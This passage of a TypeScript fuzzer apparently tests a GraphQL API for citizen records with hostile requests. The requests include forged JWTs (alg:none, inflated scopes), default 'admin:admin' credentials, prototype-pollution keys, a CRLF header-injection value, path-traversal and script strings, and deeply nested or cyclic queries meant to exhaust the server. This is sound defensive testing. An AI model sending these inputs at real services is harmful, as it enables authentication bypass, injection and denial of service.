    [2, () => `Bearer ${h}.${Buffer.from(JSON.stringify({ ...decodePayload(p), scope: 'citizen:read audit:read schema:read', org: 'SKV' })).toString('base64url')}.${s}`],
    [1, () => `Bearer ${h}.${p}.`],
    [1, () => `Bearer ${Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url')}.${p}.`],
    [1, () => `Bearer ${token} ${token}`],
    [1, () => `Bearer ${token}x`],
    [1, () => `Bearer ${token.slice(0, rng.int(1, token.length - 1))}`],
    [1, () => `Basic ${Buffer.from('admin:admin').toString('base64')}`],
    [1, () => rng.pick(['Bearer', 'Bearer ', 'Bearer null', 'Bearer undefined', 'Token abc', 'Bearer\ttoken', 'Digest username="x"', 'Bearer %00', 'Bearer ..', 'NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAGAbEdAAAADw=='])],
    [1, () => `Bearer ${rng.text(rng.size(1, 600_000), `${B64URL}.`)}`],
    [1, () => `Bearer ${rng.pick(INJECTIONS).replace(/[\s\u0000]/g, '') || 'x'}`],
    [1, () => rng.text(rng.size(1, 2000), `${ALNUM} .,;:=+/`)],
  ])();
}

function hostileApiKey(rng: Rng, world: FuzzWorld): string {
  const real = world.credentials.apiKey.value;
  return rng.weighted<() => string>([
    [6, () => rng.pick(world.hostileApiKeys)],
    [3, () => `sgk_${rng.text(16, '0123456789abcdef')}_${rng.text(43, B64URL)}`],
    [2, () => flipMiddle(real)],
    [1, () => `${real.slice(0, 20)}${rng.text(16, '0123456789abcdef')}`],
    [1, () => `sgk_${rng.text(rng.size(0, 40), '0123456789abcdefXYZ')}_${rng.text(rng.size(0, 80), B64URL)}`],
    [1, () => rng.pick(['', ' ', 'sgk_', 'sgk__', `${real},${real}`, real.toUpperCase(), rng.pick(INJECTIONS).replace(/[\r\n\u0000]/g, '')])],
    [1, () => `sgk_${'f'.repeat(rng.size(1, 400_000))}`],
  ])();
}

/** Credentials of any kind: valid (mostly), none, or invalid. */
function anyCredentials(rng: Rng, world: FuzzWorld, weights: { valid: number; none: number; invalid: number } = { valid: 60, none: 20, invalid: 20 }): Credentials {
  const kind = rng.weighted<Auth>([[weights.valid, 'valid'], [weights.none, 'none'], [weights.invalid, 'invalid']]);
  if (kind === 'valid') return validCredentials(rng, world);
  if (kind === 'none') {
    return { headers: rng.chance(0.5) ? { 'x-purpose': rng.pick(world.purposes) } : {}, auth: 'none' };
  }
  return invalidCredentials(rng, world);
}

function invalidCredentials(rng: Rng, world: FuzzWorld): Credentials {
  const headers: Record<string, string> = rng.chance(0.7) ? { 'x-purpose': rng.pick(world.purposes) } : {};
  rng.weighted<() => void>([
    [6, () => { headers.authorization = hostileAuthorization(rng, world); }],
    [3, () => { headers['x-api-key'] = hostileApiKey(rng, world); }],
    // Both a (valid) token and a (valid) key: refused as ambiguous.
    [1, () => { headers.authorization = world.credentials.staff.value; headers['x-api-key'] = world.credentials.apiKey.value; }],
  ])();
  return { headers, auth: 'invalid' };
}

const JSON_TYPES = ['application/json', 'application/json; charset=utf-8', 'application/graphql-response+json', 'application/ld+json', 'APPLICATION/JSON', 'application/json;charset=latin1'];
const ACCEPTS = ['application/graphql-response+json, application/json', 'application/json', 'application/graphql-response+json', '*/*'];

function jsonBody(doc: Doc, rng: Rng): string {
  const body: Record<string, unknown> = { query: doc.query };
  if (Object.keys(doc.variables).length > 0 || rng.chance(0.2)) body.variables = doc.variables;
  if (doc.operationName) body.operationName = doc.operationName;
  return JSON.stringify(body);
}

// ---------------------------------------------------------------------------------------------------------
// The families

interface Draft {
  note: string;
  method?: string;
  target?: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
  raw?: Buffer;
  mayCloseSilently?: boolean;
  credentials?: Credentials;
  submitted?: string[];
  probes?: string[];
}

function post(note: string, body: string | Buffer, credentials: Credentials, rng: Rng, extra: Partial<Draft> = {}): Draft {
  return {
    note,
    method: 'POST',
    target: '/graphql',
    headers: { 'content-type': rng.chance(0.9) ? 'application/json' : rng.pick(JSON_TYPES), accept: rng.pick(ACCEPTS) },
    body,
    credentials,
    ...extra,
  };
}

function malformedJson(rng: Rng, world: FuzzWorld): Draft {
  const doc = randomOperation(rng, world);
  const valid = jsonBody(doc, rng);
  const credentials = anyCredentials(rng, world);
  const submitted = doc.submitted;
  const choice = rng.weighted<() => [string, string | Buffer]>([
    [5, () => ['truncated', valid.slice(0, rng.int(0, valid.length - 1))]],
    [3, () => ['random bytes', rng.bytes(rng.size(1, 4000))]],
    [2, () => ['random text', rng.anyText(rng.size(1, 2000))]],
    [3, () => {
      const n = rng.size(1, 200_000);
      const open = rng.pick(['[', '{"a":', '{"query":', '{"variables":{"p":', '[{']);
      const close = open.startsWith('[') ? ']'.repeat(n * (open === '[{' ? 0 : 1)) : '}'.repeat(n);
      return [`nested ${open} x${n}`, rng.chance(0.5) ? `${open.repeat(n)}1${open === '[{' ? '' : close}` : `${open.repeat(n)}${rng.chance(0.5) ? '"x"' : ''}`];
    }],
    [3, () => {
      const cut = valid.indexOf('"', valid.indexOf(':') + 1) + 1;
      return ['unterminated string', `${valid.slice(0, cut)}${rng.anyText(rng.size(1, 200))}`];
    }],
    [1, () => {
      const n = rng.size(1000, 900_000);
      return [`huge string ${n}`, rng.chance(0.5) ? `{"query": "${'a'.repeat(n)}` : JSON.stringify({ query: `{ __typename } # ${'x'.repeat(n)}`, variables: { p: '1'.repeat(rng.int(1, 1000)) } })];
    }],
    [1, () => {
      const n = rng.int(1024 * 1024, 1_300_000);
      return [`over the body limit ${n}`, JSON.stringify({ query: doc.query, variables: { ...doc.variables, pad: 'p'.repeat(n) } })];
    }],
    [3, () => {
      const at = rng.int(0, valid.length);
      const insert = rng.pick(['\u0000', '\u0001', '\u001f', '\u007f', '\b', '\f', '\u0000'.repeat(rng.size(1, 1000))]);
      return ['NUL/control', `${valid.slice(0, at)}${insert}${valid.slice(at)}`];
    }],
    [3, () => {
      const at = rng.int(0, valid.length);
      const bad = Buffer.from(rng.pick([[0xff], [0xfe, 0xff], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xe2, 0x82], [0x80], [0xf8, 0x88, 0x80, 0x80, 0x80]]));
      const source = Buffer.from(valid, 'utf8');
      return ['invalid UTF-8', Buffer.concat([source.subarray(0, at), bad, source.subarray(at)])];
    }],
    [2, () => ['wrong shape', rng.pick(['null', 'true', '42', '-0', '1e999', '"{ __typename }"', '[]', '[[]]', '{}', `[${valid}]`, `[${valid},${valid}]`, `{"query": 42}`, `{"query": null}`, `{"query": ["{ __typename }"]}`, `{"query": {"kind": "Document"}}`, `{"query": ""}`, `{"query": " "}`, `{"query": "{ __typename }", "variables": "{}"}`, `{"query": "{ __typename }", "variables": [1]}`, `{"query": "{ __typename }", "variables": 1}`, `{"query": "{ __typename }", "operationName": {}}`, `{"query": "{ __typename }", "extensions": []}`, `{"query": "{ __typename }", "extensions": {"persistedQuery": {"version": 1, "sha256Hash": "${'0'.repeat(64)}"}}}`, `{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "${'f'.repeat(64)}"}}}`, `{"query": "{ __typename }", "extensions": {"persistedQuery": {"version": "x"}}}`])]],
    [2, () => ['prototype keys', rng.pick([
      `{"__proto__": {"query": "{ __typename }"}}`,
      `{"constructor": {"prototype": {"query": "{ me { subject } }"}}}`,
      `{"query": "{ __typename }", "__proto__": {"variables": {"p": "1"}}}`,
      `{"query": ${JSON.stringify(doc.query)}, "variables": {"__proto__": ${JSON.stringify(doc.variables)}}}`,
      `{"query": "{ __typename }", "variables": {"constructor": {"prototype": {"isAdmin": true}}}}`,
    ])]],
    [2, () => ['duplicate keys', `{"query": "{ __typename }", "query": ${JSON.stringify(doc.query)}, "variables": {}, "variables": ${JSON.stringify(doc.variables)}}`]],
    [1, () => ['BOM and trailing garbage', rng.pick([`\uFEFF${valid}`, `${valid}x`, `${valid}${valid}`, `${valid},`, ` \n\t${valid}\n\u0000`, `${valid.slice(0, -1)},}`])]],
    [1, () => ['JSON5/JS syntax', rng.pick([`{query: "{ __typename }"}`, `{'query': '{ __typename }'}`, `{"query": "{ __typename }", /* c */ }`, `{"query": \`{ __typename }\`}`, `{"query": "\\x41"}`, `{"query": "\\u12"}`, `{"query": "\\uD800"}`, `{"a": NaN}`, `{"a": Infinity}`, `{"a": 0x10}`, `{"a": 01}`, `{"a": .5}`])]],
  ]);
  const [note, body] = choice();
  return post(`malformed JSON: ${note}`, body, credentials, rng, { submitted });
}

/** Mutations of a valid document that (mostly) stop it parsing. */
function malformedGraphql(rng: Rng, world: FuzzWorld): Draft {
  const doc = randomOperation(rng, world);
  const q = doc.query;
  const at = rng.int(0, q.length);
  const [note, query] = rng.weighted<() => [string, string]>([
    [4, () => ['truncated', q.slice(0, rng.int(0, q.length - 1))]],
    [4, () => {
      const insert = rng.pick(['{', '}', '(', ')', '[', ']', '"', '"""', '$', '@', '...', '#', '\\', ':', '!', '=', '|', '&', '\u0000', '\u0001', '\u007f', '\uFEFF', '\uD800', '\u2028', '🦀', 'query', 'fragment', 'on', 'mutation', 'subscription', '0x1', '1e', '00', '-', '.']);
      return [`inserted ${JSON.stringify(insert)}`, `${q.slice(0, at)}${insert}${q.slice(at)}`];
    }],
    [3, () => ['range deleted', `${q.slice(0, at)}${q.slice(Math.min(q.length, at + rng.size(1, 40)))}`]],
    [2, () => ['range duplicated', `${q.slice(0, at)}${q.slice(at, at + rng.size(1, 60))}${q.slice(at)}`]],
    [3, () => ['unterminated string', `${q.slice(0, at)}"${rng.anyText(rng.size(0, 50)).replace(/"/g, '')}`]],
    [1, () => ['unterminated block string', `{ citizen(personalNumber: """${rng.anyText(rng.size(0, 200)).replace(/"""/g, '')} ) { familyName } }`]],
    [2, () => ['bad escape', `{ citizen(personalNumber: "${rng.pick(['\\u{110000}', '\\uZZZZ', '\\x41', '\\', '\\u', '\\uD800', '\\uDC00\\uD800', '\\q', '\\u00'])}") { familyName } }`]],
    [2, () => ['bad number', `{ citizensByMunicipality(code: "0180", first: ${rng.pick(['1e', '0x10', '00', '1.2.3', '-', '+1', '1_000', '∞', 'NaN', '1e99999', '99999999999999999999999'])}) { pageInfo { hasNextPage } } }`]],
    [1, () => {
      const n = rng.size(1000, 900_000);
      const value = rng.chance(0.5) ? '1'.repeat(n) : rng.text(n);
      return [`huge literal ${n}`, `{ citizen(personalNumber: "${value}") { familyName } }`];
    }],
    [1, () => [`huge comment`, `# ${'x'.repeat(rng.size(1000, 800_000))}\n${q}`]],
    [1, () => ['random text', rng.anyText(rng.size(1, 3000))]],
    [1, () => ['random tokens', Array.from({ length: rng.size(1, 3000) }, () => rng.pick(['{', '}', '(', ')', 'query', 'citizen', '...', 'on', '$p', ':', '"x"', '1', 'null', '[', ']', '@include', 'fragment', 'F', '=', '!'])).join(' ')]],
    [1, () => ['SQL as a document', rng.pick(INJECTIONS)]],
    [1, () => ['control characters', q.replace(/ /g, () => rng.pick([' ', '\t', '\u000b', '\u000c', '\u0000', '\r', '\u0085', '\u00a0', '\u200b']))]],
  ])();
  const submitted = [...doc.submitted, ...extractDigitRuns(query)];
  return post(`malformed GraphQL: ${note}`, JSON.stringify({ query, variables: doc.variables }), anyCredentials(rng, world), rng, { submitted });
}

/** Deep and wide documents. */
function deepWide(rng: Rng, world: FuzzWorld): Draft {
  const person = rng.pick(world.people).personalNumber;
  const [note, query, operationName] = rng.weighted<() => [string, string, string?]>([
    [3, () => {
      const n = rng.size(2, 600);
      return [`fields nested ${n}`, `{ citizen(personalNumber: "${person}") { ${'relations { citizen { '.repeat(n)}familyName${' } }'.repeat(n)} } }`];
    }],
    [3, () => {
      const n = rng.size(2, 4000);
      return [`inline fragments nested ${n}`, `{ ${'... on Query { '.repeat(n)}__typename${' }'.repeat(n)} }`];
    }],
    [1, () => {
      const n = rng.size(2, 3000);
      return [`inline fragments nested ${n} inside a field`, `{ me { ${'... on Principal { '.repeat(n)}subject${' }'.repeat(n)} } }`];
    }],
    [2, () => {
      const n = rng.size(2, 200_000);
      return [`list literal nested ${n}`, `{ citizens(personalNumbers: ${'['.repeat(n)}"${person}"${']'.repeat(n)}) { familyName } }`];
    }],
    [2, () => {
      const n = rng.size(2, 20_000);
      return [`object literal nested ${n}`, `{ auditEvents(filter: ${'{ subject: '.repeat(n)}"${person}"${' }'.repeat(n)}) { edges { cursor } } }`];
    }],
    [2, () => {
      const n = rng.size(10, 25_000);
      return [`${n} fields`, `{ ${'__typename '.repeat(n)}}`];
    }],
    [2, () => {
      const n = rng.size(10, 8000);
      return [`${n} aliases`, `{ ${Array.from({ length: n }, (_, i) => `a${i}: __typename`).join(' ')} }`];
    }],
    [2, () => {
      const n = rng.size(2, 400);
      return [`${n} aliased citizen fields`, `{ ${Array.from({ length: n }, (_, i) => `c${i}: citizen(personalNumber: "${rng.pick(world.people).personalNumber}") { familyName benefits { amount { amount } } }`).join(' ')} }`];
    }],
    [1, () => {
      const n = rng.size(2, 3000);
      return [`${n} fields on a person`, `{ citizen(personalNumber: "${person}") { ${'familyName givenNames '.repeat(n)}} }`];
    }],
    [2, () => {
      const n = rng.size(1, 1500);
      const frags = Array.from({ length: n }, (_, i) => `fragment F${i} on Query { ${i + 1 < n ? `...F${i + 1}` : '__typename'} }`).join(' ');
      return [`fragment chain ${n}`, `{ ...F0 } ${frags}`];
    }],
    [2, () => {
      const n = rng.size(1, 1500);
      const frags = Array.from({ length: n }, (_, i) => `fragment F${i} on Query { __typename ...F${(i + 1) % n} }`).join(' ');
      return [`fragment cycle of ${n}`, `{ ...F0 } ${frags}`];
    }],
    [1, () => ['self-spreading fragment', rng.pick([
      '{ ...A } fragment A on Query { ...A }',
      '{ me { ...P } } fragment P on Principal { subject ...P }',
      `{ citizen(personalNumber: "${person}") { ...C } } fragment C on Citizen { relations { citizen { ...C } } }`,
      '{ ...A ...B } fragment A on Query { ...B } fragment B on Query { ...A }',
    ])]],
    [2, () => {
      // Each fragment spreads the next twice: 2^k paths through a document of k fragments.
      const k = rng.int(1, 12);
      const frags = Array.from({ length: k }, (_, i) => `fragment F${i} on Query { ...F${i + 1} ...F${i + 1} }`).join(' ');
      return [`fragment fan-out 2^${k}`, `{ ...F0 } ${frags} fragment F${k} on Query { __typename }`];
    }],
    [1, () => {
      const n = rng.size(1, 3000);
      return [`${n} unused fragments`, `{ __typename } ${Array.from({ length: n }, (_, i) => `fragment U${i} on Query { __typename }`).join(' ')}`];
    }],
    [1, () => {
      const n = rng.size(2, 3000);
      const name = rng.chance(0.5) ? `O${rng.int(0, n - 1)}` : rng.chance(0.5) ? 'Nope' : undefined;
      return [`${n} operations`, Array.from({ length: n }, (_, i) => `query O${i} { __typename }`).join(' '), name];
    }],
    [1, () => {
      const n = rng.size(1, 3000);
      return [`${n} variable definitions`, `query Q(${Array.from({ length: n }, (_, i) => `$v${i}: String`).join(', ')}) { __typename }`];
    }],
    [1, () => {
      const n = rng.size(1, 4000);
      return [`${n} directives`, `{ __typename ${'@include(if: true) @skip(if: false) '.repeat(n)}}`];
    }],
    [1, () => {
      const n = rng.size(2, 3000);
      return [`${n} duplicate arguments`, `{ citizen(${Array.from({ length: n }, () => `personalNumber: "${person}"`).join(', ')}) { familyName } }`];
    }],
    [1, () => {
      const n = rng.size(2, 5000);
      return [`${n} personal numbers in a literal list`, `{ citizens(personalNumbers: [${Array.from({ length: n }, () => `"${rng.pick(world.people).personalNumber}"`).join(', ')}]) { familyName } }`];
    }],
    [1, () => [`whitespace padding`, `${' '.repeat(rng.size(1, 900_000))}{ __typename }`]],
    [2, () => {
      const n = rng.size(2, 3000);
      return [`${n} aliases inside a field`, `{ citizen(personalNumber: "${person}") { ${Array.from({ length: n }, (_, i) => `n${i}: familyName`).join(' ')} } }`];
    }],
    [2, () => {
      const first = rng.pick([20, 50, 100, 100]);
      const inner = rng.pick(['benefits { payments { amount { amount } } }', 'relations { citizen { benefits { payments { id } } cases { actionPlan { step } } } }', 'cases { actionPlan { activity } citizen { relations { citizen { familyName } } } }']);
      return [`costly page of ${first}`, `{ citizensByMunicipality(code: "${rng.pick(world.people).municipality}", first: ${first}) { edges { node { familyName ${inner} } } } }`];
    }],
    [2, () => {
      const n = rng.size(1, 60);
      return [`${n} citizens × nested lists`, `query($p: [String!]!) { citizens(personalNumbers: $p) { familyName relations { citizen { relations { citizen { benefits { payments { id } } } } } } } }`];
    }],
    [2, () => {
      const n = rng.size(1, 40);
      return [`introspection nested ${n}`, `{ __schema { types { ${'fields { type { ofType { '.repeat(n)}name${' } } }'.repeat(n)} } } }`];
    }],
    [1, () => ['full introspection', '{ __schema { queryType { name } types { name kind fields(includeDeprecated: true) { name args { name type { name kind ofType { name } } } type { name kind ofType { name kind } } } } directives { name args { name } } } }']],
    [1, () => [`__type probe`, `{ __type(name: ${JSON.stringify(rng.pick(['Citizen', 'AuditEvent', 'Query', '', rng.pick(INJECTIONS)]))}) { name fields { name } } }`]],
  ])();
  const credentials = anyCredentials(rng, world, { valid: 75, none: 15, invalid: 10 });
  const body: Record<string, unknown> = { query };
  if (query.includes('$p: [String!]!')) body.variables = { p: Array.from({ length: Number(/^(\d+)/.exec(note)?.[1] ?? 1) }, () => rng.pick(world.people).personalNumber) };
  if (operationName) body.operationName = operationName;
  return post(`deep/wide: ${note}`, JSON.stringify(body), credentials, rng, { submitted: extractDigitRuns(query) });
}

/** An operation that takes variables, given variables of every wrong kind (as JSON text: some nest too deep for JSON.stringify). */
function badVariables(rng: Rng, world: FuzzWorld): Draft {
  const doc = randomOperation(rng, world, { useVariables: 1 });
  const names = Object.keys(doc.variables);
  const person = rng.pick(world.people).personalNumber;
  const wrong = (): string => rng.weighted<() => string>([
    [3, () => JSON.stringify(rng.pick<unknown>([0, -1, 1.5, 1e308, -1e308, 2 ** 53, Number(person), true, false, null, '', ' ', {}, [], [[]], [null], { p: person }, [person], `${person}`]))],
    [1, () => rng.pick(['1e400', '-0', '123456789012345678901234567890', '0.0000000000000000000001', '"\\u0000"', '"\\uD800"'])],
    [2, () => JSON.stringify(Array.from({ length: rng.size(1, 100_000) }, () => (rng.chance(0.8) ? person : rng.pick<unknown>([null, 1, [], {}]))))],
    [2, () => {
      const depth = rng.size(1, 100_000);
      const kinds = Array.from({ length: depth }, () => rng.chance(0.5));
      return `${kinds.map((list) => (list ? '[' : '{"a":')).join('')}${JSON.stringify(person)}${kinds.reverse().map((list) => (list ? ']' : '}')).join('')}`;
    }],
    [1, () => '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "toString": "x", "valueOf": 1}'],
    // A personal number as an input object's key.
    [1, () => `{${JSON.stringify(rng.pick([person, person.slice(2), `${person.slice(2, 8)}-${person.slice(8)}`]))}: ${JSON.stringify(person)}}`],
    [1, () => JSON.stringify('x'.repeat(rng.size(1, 800_000)))],
    [1, () => JSON.stringify(rng.anyText(rng.size(1, 300)))],
  ])();
  const texts = new Map(names.map((name) => [name, JSON.stringify(doc.variables[name])]));
  for (const name of names.length > 0 ? rng.subset(names, rng.int(1, names.length)) : []) texts.set(name, wrong());
  const object = (entries: Iterable<[string, string]>) => `{${[...entries].map(([k, v]) => `${JSON.stringify(k)}: ${v}`).join(', ')}}`;
  const query = JSON.stringify(doc.query);
  const [note, text] = rng.weighted<() => [string, string]>([
    [6, () => ['wrong types', `{"query": ${query}, "variables": ${object(texts)}}`]],
    [2, () => {
      // Keys written by hand, since object literals cannot hold an own "__proto__".
      const smuggled = object(names.map((n) => [n, JSON.stringify(doc.variables[n])]));
      return ['prototype-pollution keys', `{"query": ${query}, "variables": {${rng.pick([`"__proto__": ${smuggled}`, `"constructor": {"prototype": ${smuggled}}`, `"__proto__": {"polluted": true}${names.length > 0 ? `, ${smuggled.slice(1, -1)}` : ''}`, `"__proto__": null`])}}}`];
    }],
    [2, () => ['wrong container', `{"query": ${query}, "variables": ${rng.pick(['[]', `[${object(texts)}]`, '"x"', '1', 'true', JSON.stringify(object(texts))])}}`]],
    [1, () => ['missing and extra variables', `{"query": ${query}, "variables": ${object([...[...texts].slice(1), ['extra', JSON.stringify(person)], [`v${rng.int(0, 50)}x`, JSON.stringify([person])]])}}`]],
    [1, () => ['huge number of variables', `{"query": ${query}, "variables": ${object([...texts, ...Array.from({ length: rng.size(1, 50_000) }, (_, i): [string, string] => [`u${i}`, String(i)])])}}`]],
  ])();
  return post(`bad variables: ${note}`, text, anyCredentials(rng, world, { valid: 80, none: 10, invalid: 10 }), rng, { submitted: [...doc.submitted, person] });
}

/** One injection string into one argument coordinate (all are reached over a run), via a variable or a literal. */
function injection(rng: Rng, world: FuzzWorld, coordinates: readonly string[]): Draft {
  const coordinate = rng.pick(coordinates);
  const person = rng.pick(world.people).personalNumber;
  const payload = rng.weighted<() => string>([
    [8, () => rng.pick(INJECTIONS)],
    [2, () => `${rng.pick([person, person.slice(2), '0180', world.benefitIds[0] ?? '1', world.caseIds[0] ?? 'AF'])}${rng.pick(INJECTIONS)}`],
    [2, () => homoglyph(rng, person)],
    [1, () => `${rng.pick(INJECTIONS)}`.repeat(rng.size(1, 2000))],
  ])();
  const asVariable = rng.chance(0.5);
  const doc = randomOperation(rng, world, { force: { coordinate, value: payload, asVariable }, maxDepth: 2, useVariables: 0.3 });
  const credentials = anyCredentials(rng, world, { valid: 80, none: 10, invalid: 10 });
  return post(`injection into ${coordinate} (${asVariable ? 'variable' : 'literal'})`, jsonBody(doc, rng), credentials, rng, {
    submitted: [...doc.submitted, payload, person],
    probes: [coordinate],
  });
}

function validRandom(rng: Rng, world: FuzzWorld): Draft {
  const doc = randomOperation(rng, world, { maxDepth: rng.int(1, 6), rootFields: rng.size(1, 4), peopleBias: 0.6 });
  if (rng.chance(0.05)) doc.query = doc.query.replace(/\}\s*$/, ` ${rng.pick(['__schema { queryType { name } }', '__type(name: "Citizen") { name }', '__typename'])} }`);
  const credentials = anyCredentials(rng, world, { valid: 85, none: 10, invalid: 5 });
  return post('random query over the schema', jsonBody(doc, rng), credentials, rng, { submitted: doc.submitted });
}

/** Header values fetch cannot send (non-Latin-1, control characters) go raw over the socket. */
function needsRaw(value: string): boolean {
  return /[^\t\x20-\x7e\x80-\xff]/.test(value) || value !== value.trim();
}

function hostileHeaders(rng: Rng, world: FuzzWorld): Draft {
  const doc = randomOperation(rng, world, { maxDepth: 2 });
  let credentials = validCredentials(rng, world);
  const headers: Record<string, string> = { 'content-type': 'application/json', accept: rng.pick(ACCEPTS) };
  const notes: string[] = [];
  const submitted = [...doc.submitted];
  const person = rng.pick(world.people).personalNumber;
  const count = rng.int(1, 3);
  for (let i = 0; i < count; i++) {
    rng.weighted<() => void>([
      [3, () => {
        const value = rng.weighted<() => string>([
          [2, () => `Bearer ${'a'.repeat(rng.size(8_000, 1_500_000))}`],
          [2, () => hostileAuthorization(rng, world)],
          [1, () => `${world.credentials.staff.value}${rng.pick(['\u0000', '\t', ' \u00e9', '\r', '🦀'])}`],
          [1, () => `Bearer ${rng.anyText(rng.size(1, 300))}`],
        ])();
        notes.push('authorization');
        credentials = { headers: { 'x-purpose': 'employment-support', authorization: value }, auth: 'invalid' };
        // 'Bearer <valid>\t' still matches the server's grammar: only count as invalid what must be refused.
        if (/^Bearer +\S+[\t ]*$/i.test(value) && value.trim() === world.credentials.staff.value) credentials = { ...credentials, auth: 'valid', principal: 'staff' };
      }],
      [2, () => {
        notes.push('x-api-key');
        const value = rng.chance(0.8) ? hostileApiKey(rng, world) : `${world.credentials.apiKey.value}${rng.pick(['\u0000', '\u00e9', '🦀', 'x'])}`;
        credentials = { headers: { 'x-api-key': value, 'x-purpose': 'social-services' }, auth: 'invalid' };
      }],
      [3, () => {
        notes.push('x-purpose');
        headers['x-purpose'] = rng.pick(['', ' ', 'x'.repeat(rng.size(100, 200_000)), 'bidragsbedömning', 'employment-support\u0000', 'employment-support\r\nx-purpose: audit', rng.pick(INJECTIONS), person, rng.anyText(rng.size(1, 100)), 'audit, employment-support', 'employment-support,employment-support']);
        submitted.push(person);
      }],
      [3, () => {
        notes.push('x-request-id');
        headers['x-request-id'] = rng.pick([person, person.slice(2), `${person.slice(2, 8)}-${person.slice(8)}`, `req-${person}`, `${person}-x`, 'a'.repeat(rng.size(1, 300_000)), rng.pick(INJECTIONS), rng.anyText(rng.size(1, 200)), '../../etc/passwd', '<script>', 'ok-id.1:2_3']);
        submitted.push(person);
      }],
      [2, () => {
        notes.push('legal basis / case reference');
        headers[rng.pick(['x-legal-basis', 'x-case-reference'])] = rng.pick(['x'.repeat(rng.size(100, 300_000)), rng.anyText(rng.size(1, 500)), rng.pick(INJECTIONS), person]);
        submitted.push(person);
      }],
      [3, () => {
        notes.push('content-type');
        headers['content-type'] = rng.pick(['', 'text/plain', 'text/plain;charset=utf-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/graphql', 'application/xml', 'application/json; charset=utf-16', 'application/json; charset="utf-8"; x=y', 'application/json;;;', 'application/*', '*/*', 'json', 'application/jsonx', 'application/json\u0000', 'application/ld+json', 'application/vnd.evil+json', `application/json; ${'x'.repeat(rng.size(10, 100_000))}`, rng.anyText(rng.size(1, 100))]);
      }],
      [3, () => {
        notes.push('accept');
        headers.accept = rng.pick(['', 'text/html', 'text/*', 'application/xml', 'application/json;q=0', 'application/graphql-response+json;q=0, text/html', 'image/png', '*/*;q=0', 'application/json; charset=latin1', 'application/*', `${'text/html, '.repeat(rng.size(1, 20_000))}application/json`, rng.anyText(rng.size(1, 100)), 'application/graphql-response+json; charset=utf-16']);
      }],
      [2, () => {
        notes.push('other headers');
        const name = rng.pick(['user-agent', 'origin', 'referer', 'cookie', 'x-forwarded-for', 'apollo-require-preflight', 'x-apollo-operation-name', 'graphql-client-name', 'content-encoding', 'accept-encoding', 'x-http-method-override', 'forwarded', 'via', 'if-none-match', 'range', 'x-samgraf-debug']);
        headers[name] = rng.pick(['x'.repeat(rng.size(1, 300_000)), rng.anyText(rng.size(1, 200)), 'gzip', 'br', 'PUT', 'DELETE', '127.0.0.1', 'bytes=0-1', rng.pick(INJECTIONS), 'null', 'true']);
      }],
    ])();
  }
  const body = jsonBody(doc, rng);
  const draft: Draft = { note: `hostile headers: ${notes.join(', ')}`, method: 'POST', target: '/graphql', headers, body, credentials, submitted };
  return [...Object.values(headers), ...Object.values(credentials.headers)].some(needsRaw) ? toRaw(draft) : draft;
}

function hostileTokens(rng: Rng, world: FuzzWorld): Draft {
  const doc = randomOperation(rng, world, { maxDepth: 2, rootFields: 1 });
  const credentials = invalidCredentials(rng, world);
  if (!credentials.headers['x-purpose'] && rng.chance(0.8)) credentials.headers['x-purpose'] = 'employment-support';
  const which = credentials.headers.authorization !== undefined && credentials.headers['x-api-key'] !== undefined ? 'token and key' : credentials.headers.authorization !== undefined ? 'token' : 'api key';
  const draft = post(`hostile ${which}`, jsonBody(doc, rng), credentials, rng, { submitted: doc.submitted });
  return Object.values(credentials.headers).some(needsRaw) ? toRaw(draft) : draft;
}

/** Percent-encodes the UTF-8 bytes of a value (lone surrogates become U+FFFD, as on the wire). */
function percentEncode(value: string): string {
  let out = '';
  for (const byte of Buffer.from(value, 'utf8')) out += /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  return out;
}

function encodeParam(rng: Rng, value: string): string {
  return rng.chance(0.9) ? percentEncode(value) : value.replace(/ /g, '+').replace(/[#&\s%]/g, (c) => percentEncode(c));
}

function getRequest(rng: Rng, world: FuzzWorld): Draft {
  const doc = randomOperation(rng, world, { maxDepth: 3 });
  const params: string[] = [];
  const submitted = [...doc.submitted];
  const notes: string[] = [];
  rng.weighted<() => void>([
    [6, () => { notes.push('valid'); params.push(`query=${encodeParam(rng, doc.query)}`); if (Object.keys(doc.variables).length > 0 || rng.chance(0.3)) params.push(`variables=${encodeParam(rng, JSON.stringify(doc.variables))}`); if (doc.operationName) params.push(`operationName=${encodeParam(rng, doc.operationName)}`); }],
    [2, () => { notes.push('broken variables'); params.push(`query=${encodeParam(rng, doc.query)}`, `variables=${rng.pick(['%7Bbad', '[1]', '"x"', 'null', percentEncode('{"__proto__":{"p":"1"}}'), `%7B${'%5B'.repeat(rng.size(1, 20_000))}`, percentEncode(JSON.stringify({ p: Array(rng.size(1, 5000)).fill('1') }))])}`); }],
    [2, () => { notes.push('broken query'); params.push(`query=${rng.pick(['%7B', '%', '%zz', '%E0%A4%A', '%00', '%FF%FE', '{', percentEncode(malformedText(rng, doc.query)), '%7B'.repeat(rng.size(1, 30_000))])}`); }],
    [1, () => { notes.push('duplicates'); params.push(`query=${percentEncode(doc.query)}`, `query=${percentEncode('{ me { subject } }')}`, 'variables=%7B%7D', 'variables=%7B%7D'); }],
    [1, () => { notes.push('extensions'); params.push(`query=${percentEncode(doc.query)}`, `extensions=${rng.pick(['%7Bbad', percentEncode('{"persistedQuery":{"version":1,"sha256Hash":"abc"}}'), percentEncode('{"persistedQuery":{"version":1,"sha256Hash":"' + 'f'.repeat(64) + '"}}'), '[]'])}`); }],
    [1, () => { notes.push('mutation'); params.push(`query=${percentEncode(rng.pick(['mutation { x }', 'subscription { x }', 'mutation M { __typename }']))}`); }],
    [1, () => { notes.push('huge'); params.push(`query=${percentEncode(`{ __typename } #${'x'.repeat(rng.size(1000, 400_000))}`)}`); }],
    [1, () => { notes.push('random params'); for (let i = rng.size(1, 200); i > 0; i--) params.push(`${rng.text(rng.int(0, 8))}=${rng.text(rng.int(0, 20), `${ALNUM}%&=+`)}`); }],
    [1, () => { notes.push('no query'); }],
  ])();
  if (rng.chance(0.1)) params.push(`${rng.pick(['__proto__', 'constructor', 'query[]', 'query[0]'])}=${percentEncode('{ __typename }')}`);
